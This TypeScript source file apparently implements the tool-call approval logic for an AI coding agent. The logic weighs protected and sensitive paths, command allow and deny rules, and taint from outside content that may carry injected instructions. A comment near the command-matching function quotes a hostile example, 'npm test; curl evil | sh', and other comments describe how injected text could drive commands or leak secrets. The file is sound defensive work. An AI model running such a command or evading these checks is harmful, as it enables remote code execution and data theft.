import picomatch from 'picomatch';
import type { ApprovalSettings, ChatAllowance } from './approval';
import { createPathRules, ruleCandidates } from './path-rules';
import { judgeCommandLine, type CommandLineJudgement, type JudgedPart } from './command-rules';
import type { AnyTool, ApprovalPreview, Risk } from '../tool';

export type ApprovalVerdict =
  | { readonly kind: 'auto'; readonly reason: string }
  | {
      readonly kind: 'ask';
      /** Plain words for the dialog, most important first. */
      readonly reasons: string[];
      /** No auto-approval may answer: a host without a person to ask must deny. */
      readonly needsPerson: boolean;
      readonly protectedPaths: string[];
      readonly sensitivePaths: string[];
      readonly taintSources: string[];
      /** For a command line: its parts and the rule that matched each. */
      readonly commandParts?: readonly JudgedPart[];
    };

export interface ApprovalInput {
  readonly tool: AnyTool;
  readonly args: unknown;
  readonly preview?: ApprovalPreview;
  readonly settings: ApprovalSettings;
  /** Where the outside content this run has read came from (empty: none yet). */
  readonly taintSources: readonly string[];
  readonly allowances: readonly ChatAllowance[];
  /**
   * What the person wrote in this chat (their messages), to tell a file they named from one
   * only the outside content asks for. Absent: no file counts as named.
   */
  readonly personText?: string;
}

/** Tools whose write removes the file: a delete after outside content always needs a person. */
const DELETING_TOOLS = new Set(['delete_file']);

const RISK_WORDS: Record<Risk, string> = {
  read: 'reads',
  write: 'changes files',
  execute: 'runs a command',
  network: 'uses the network',
};

/**
 * Decides, without side effects, whether a tool call may run on its own or needs a person.
 *
 * The rules, strongest first:
 * 1. A call that writes a protected path (.vscode/**, .git/**, …) always asks, with
 *    `needsPerson`: no setting and no chat allowance answers for the person.
 * 2. A risky call made after the run took in outside content (`taintSources`: a file, a
 *    command's output, a web page) is flagged when that content could really hurt through it:
 *    a command, the network, a delete, a protected or sensitive path, a file that runs code, or
 *    a file the content did not come from and the person did not name (see `taintHarm`). With
 *    `settings.taintNeedsApproval` (the default) a flagged call always asks, with `needsPerson`.
 *    An edit of the very file that was read, or of one the person named, is asked about as an
 *    ordinary write.
 * 3. A call touching a sensitive path (.env, *.pem, …) asks, whatever its risk and whatever
 *    auto-approval says; only a chat allowance naming those exact paths (no wildcard) answers
 *    for it. A sensitive *read* after tainted content needs a person too: reading secrets is the
 *    first step of leaking them.
 * 4. A command line with a part matching a deny rule asks, with `needsPerson`; with deny rules
 *    set, a line the parser cannot read whole (or a part known only when it runs) asks too: it
 *    may hide a denied command.
 * 5. Otherwise a call runs when auto-approval is on for its risk (read is, by default), when every
 *    part of its command line matches an allow rule (and it writes no file through a redirection,
 *    unless writes are auto-approved), or when a chat allowance for the tool matches it; else it asks.
 */
export function decideApproval(input: ApprovalInput): ApprovalVerdict {
  const { tool, args, preview, settings } = input;
  const rules = createPathRules(settings);
  const paths = pathsOf(preview, args);
  const risky = tool.risk !== 'read';
  const protectedPaths = risky ? rules.protectedAmong(paths) : [];
  const sensitivePaths = rules.sensitiveAmong(paths);
  const seen = unique(input.taintSources);
  const harm = seen.length === 0 ? undefined : sensitivePaths.length > 0 ? 'it touches a file that may hold secrets' : risky ? taintHarm(input, paths, rules, seen, protectedPaths) : undefined;
  // Taint named in the dialog and the trace only where it can hurt; otherwise the call is ordinary.
  const taintSources = harm !== undefined ? seen : [];
  const taintBinds = taintSources.length > 0 && settings.taintNeedsApproval;
  const allowance = matchingAllowance(input, paths);
  const command = preview?.command;
  const commandRules = settings.commandRules ?? { allow: [], deny: [] };
  const judgement: CommandLineJudgement | undefined = command
    ? judgeCommandLine(command.analysis ?? { readable: false, problem: 'it was not parsed' }, commandRules)
    : undefined;
  const unjudged = judgement ? judgement.parts.filter(({ verdict }) => verdict === 'unknown') : [];
  const hidesDenied = commandRules.deny.length > 0 && unjudged.length > 0;

  const reasons: string[] = [];
  if (protectedPaths.length > 0) {
    reasons.push(
      `it ${tool.risk === 'write' ? 'changes' : 'touches'} ${list(protectedPaths)}, a protected path: ` +
        'such files can make VS Code, git or CI run code, so a person must confirm every change',
    );
  }
  if (taintSources.length > 0) {
    reasons.push(taintReason(taintSources), `flagged because ${harm}`);
  }
  if (sensitivePaths.length > 0) {
    reasons.push(`it ${risky ? 'touches' : 'reads'} ${list(sensitivePaths)}, which may hold secrets (passwords, keys, tokens)`);
  }
  if (judgement?.denied) {
    const denied = judgement.parts.filter(({ verdict }) => verdict === 'denied');
    reasons.push(`it runs ${list(denied.map(({ text }) => text))}, which your deny rules (${list(unique(denied.map(({ why }) => why)))}) keep from running unasked`);
  } else if (hidesDenied) {
    reasons.push(`${unjudged[0].why}: your deny rules cannot be checked against ${unjudged.length === 1 && unjudged[0].text === '(the whole line)' ? 'it' : list(unjudged.map(({ text }) => text))}`);
  }
  const ask = (needsPerson: boolean, ...extra: string[]): ApprovalVerdict => ({
    kind: 'ask',
    reasons: [...reasons, ...extra],
    needsPerson,
    protectedPaths,
    sensitivePaths,
    taintSources,
    ...(judgement ? { commandParts: judgement.parts } : {}),
  });

  if (protectedPaths.length > 0 || (risky && taintBinds) || judgement?.denied) return ask(true);
  if (sensitivePaths.length > 0) {
    if (taintBinds) return ask(true);
    // Only a grant naming the files themselves answers for a sensitive path, never a folder glob.
    const exact = input.allowances.find(
      ({ tool, pattern }) => tool === input.tool.name && !hasWildcard(pattern) && coversAll(pattern, paths),
    );
    return exact ? { kind: 'auto', reason: allowedReason(exact, taintSources) } : ask(false);
  }
  if (hidesDenied) return ask(false);
  if (settings.autoApproveTools?.includes(tool.name)) {
    return { kind: 'auto', reason: `auto-approval is on for ${tool.name}${taintFlag(taintSources)}` };
  }
  if (settings.autoApprove[tool.risk]) {
    return { kind: 'auto', reason: `auto-approval is on for ${tool.risk} tools${taintFlag(taintSources)}` };
  }
  if (judgement?.allAllowed) {
    const writes = command?.analysis?.readable ? command.analysis.writes : [];
    if (writes.length === 0 || settings.autoApprove.write) {
      const rules = judgement.parts.map(({ text, why }) => `${text} (${why})`).join('; ');
      return { kind: 'auto', reason: `every command it runs is allowed: ${rules}${taintFlag(taintSources)}` };
    }
    if (!allowance) {
      return ask(false, `every command it runs is allowed, but it writes ${list(writes)} through a redirection, and auto-approval is off for writes`);
    }
  }
  if (allowance) return { kind: 'auto', reason: allowedReason(allowance, taintSources) };
  return ask(false, `${tool.name} ${RISK_WORDS[tool.risk]}, and auto-approval is off for ${tool.risk} tools`);
}

/**
 * Why a risky call after outside content could be that content's doing and hurt: undefined when
 * it is an edit of the very file(s) the content came from, or of files the person named, none
 * of which runs code.
 */
function taintHarm(
  input: ApprovalInput,
  paths: readonly string[],
  rules: ReturnType<typeof createPathRules>,
  sources: readonly string[],
  protectedPaths: readonly string[],
): string | undefined {
  const { tool } = input;
  if (tool.risk === 'execute') return 'it runs a command: injected text can ask for any command';
  if (tool.risk === 'network') return 'it uses the network: injected text can send what was read elsewhere';
  if (DELETING_TOOLS.has(tool.name)) return `it deletes ${list(paths)}`;
  if (protectedPaths.length > 0) return `it changes ${list(protectedPaths)}, a protected path`;
  if (paths.length === 0) return 'what it changes is not known before it runs';
  const runsCode = paths.filter((path) => rules.runsCode(path));
  if (runsCode.length > 0) return `it changes ${list(runsCode)}, which runs code when the project is built, tested or installed`;
  const named = (path: string) => namedByPerson(path, input.personText);
  const isTarget = (source: string) => paths.some((path) => samePath(path, source));
  const elsewhere = paths.filter((path) => !named(path));
  if (elsewhere.length > 0 && !sources.every(isTarget)) {
    const others = sources.filter((source) => !isTarget(source));
    return `it changes ${list(elsewhere)}, which the content from ${list(others)} did not come from, and you did not name it`;
  }
  return undefined;
}

function samePath(a: string, b: string): boolean {
  const [left] = ruleCandidates(a);
  const [right] = ruleCandidates(b);
  return left.length > 0 && left === right;
}

/** Whether the person's own words name this file: its workspace path, or its file name, as a word. */
function namedByPerson(path: string, personText: string | undefined): boolean {
  if (!personText) return false;
  const [plain] = ruleCandidates(path);
  if (plain.length === 0) return false;
  const name = plain.split('/').pop()!;
  const word = (text: string) => new RegExp(`(?<![\\w./-])${text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}(?![\\w/-]|\\.\\w)`).test(personText);
  return word(plain) || word(name);
}

/**
 * The reason a call after untrusted content is asked about. Exported so the dialogs that also
 * show the taint warning on its own can leave this reason out and say it once.
 */
export function taintReason(taintSources: readonly string[]): string {
  return `this action follows content read from ${list(unique(taintSources))} — the model may be following instructions hidden in it`;
}

function allowedReason(allowance: ChatAllowance, taintSources: readonly string[]): string {
  return `allowed for this chat: ${allowance.tool} on ${allowance.pattern}${taintFlag(taintSources)}`;
}

/** Taint that did not force a question is still named in the trace. */
function taintFlag(taintSources: readonly string[]): string {
  return taintSources.length > 0 ? `; flagged: it follows content read from ${list(taintSources)}` : '';
}

/**
 * What an "Allow for this chat" grant for this call should cover: the exact command line for
 * run_command, the URL's origin for a fetch, the folder of the file(s) for file tools (`src/**`),
 * and the exact file(s) when they are sensitive. `*` stands for every call of the tool.
 */
export function allowancePatternFor(
  _tool: AnyTool | string,
  preview?: ApprovalPreview,
  args?: unknown,
  settings?: Pick<ApprovalSettings, 'sensitivePaths'>,
): string {
  if (preview?.command) return preview.command.line;
  const paths = pathsOf(preview, args);
  if (paths.length > 0) {
    const rules = createPathRules(settings);
    if (paths.some((path) => rules.isSensitive(path))) return bracePattern(paths.map(escapeGlob));
    const folder = commonFolder(paths);
    if (folder === '') return paths.length === 1 ? escapeGlob(paths[0]) : '**';
    return `${escapeGlob(folder)}/**`;
  }
  const origin = urlOrigin(args);
  if (origin) return origin;
  return '*';
}

/** The first allowance that lets this call run (for what each tool matches on, see allowancePatternFor). */
function matchingAllowance(input: ApprovalInput, paths: readonly string[]): ChatAllowance | undefined {
  const command = input.preview?.command?.line;
  const origin = urlOrigin(input.args);
  return input.allowances.find(({ tool, pattern }) => {
    if (tool !== input.tool.name) return false;
    if (command !== undefined) return commandMatches(pattern, command);
    if (paths.length > 0) return coversAll(pattern, paths);
    if (origin !== undefined) return pattern === '*' || pattern === origin;
    return pattern === '*';
  });
}

function coversAll(pattern: string, paths: readonly string[]): boolean {
  // windows: false: paths here always use `/`, and `\` escapes a glob character.
  const matches = picomatch(pattern, { dot: true, windows: false });
  return paths.every((path) => ruleCandidates(path).some((candidate) => matches(candidate)));
}

// A wildcard in an allowed command never spans a shell operator, so an allowance for
// `npm test *` cannot be stretched into `npm test; curl evil | sh`.
const SHELL_OPERATORS = ';&|`$()<>\n\r';
const MAX_COMMAND_TO_MATCH = 20_000;

function commandMatches(pattern: string, command: string): boolean {
  if (pattern === command) return true;
  if (!pattern.includes('*') || command.length > MAX_COMMAND_TO_MATCH) return false;
  const anythingButOperators = `[^${SHELL_OPERATORS.replace(/[\]\\^-]/g, '\\$&').replace('\n', '\\n').replace('\r', '\\r')}]*`;
  const source = pattern
    .split('*')
    .map((part) => part.replace(/[.*+?^${}()|[\]\\]/g, '\\$&'))
    .join(anythingButOperators);
  return new RegExp(`^${source}$`).test(command);
}

function pathsOf(preview: ApprovalPreview | undefined, args: unknown): string[] {
  if (preview?.paths && preview.paths.length > 0) return [...preview.paths];
  if (preview?.diff) return [preview.diff.path];
  // Without a preview, fall back to the call's own path argument so the path rules still apply.
  if (args && typeof args === 'object') {
    const { path, paths } = args as { path?: unknown; paths?: unknown };
    if (typeof path === 'string') return [path];
    if (Array.isArray(paths)) return paths.filter((p): p is string => typeof p === 'string');
  }
  return [];
}

function urlOrigin(args: unknown): string | undefined {
  if (!args || typeof args !== 'object') return undefined;
  const url = (args as { url?: unknown }).url;
  if (typeof url !== 'string') return undefined;
  try {
    const parsed = new URL(url);
    return parsed.origin === 'null' ? undefined : parsed.origin;
  } catch {
    return undefined;
  }
}

function commonFolder(paths: readonly string[]): string {
  const folders = paths.map((path) => ruleCandidates(path)[0].split('/').slice(0, -1));
  const first = folders[0];
  let length = first.length;
  for (const folder of folders.slice(1)) {
    let i = 0;
    while (i < length && i < folder.length && folder[i] === first[i]) i++;
    length = i;
  }
  return first.slice(0, length).join('/');
}

function hasWildcard(pattern: string): boolean {
  return /(?<!\\)[*?[\]!+@]/.test(pattern);
}

function escapeGlob(path: string): string {
  return path.replace(/[*?[\]{}()!+@\\]/g, '\\$&');
}

function bracePattern(paths: readonly string[]): string {
  const distinct = unique(paths);
  return distinct.length === 1 ? distinct[0] : `{${distinct.join(',')}}`;
}

function list(items: readonly string[]): string {
  const quoted = items.slice(0, 3).map((item) => (item.includes(' ') ? `"${item}"` : item));
  return items.length > 3 ? `${quoted.join(', ')} and ${items.length - 3} more` : quoted.join(', ');
}

function unique(items: readonly string[]): string[] {
  return [...new Set(items)];
}
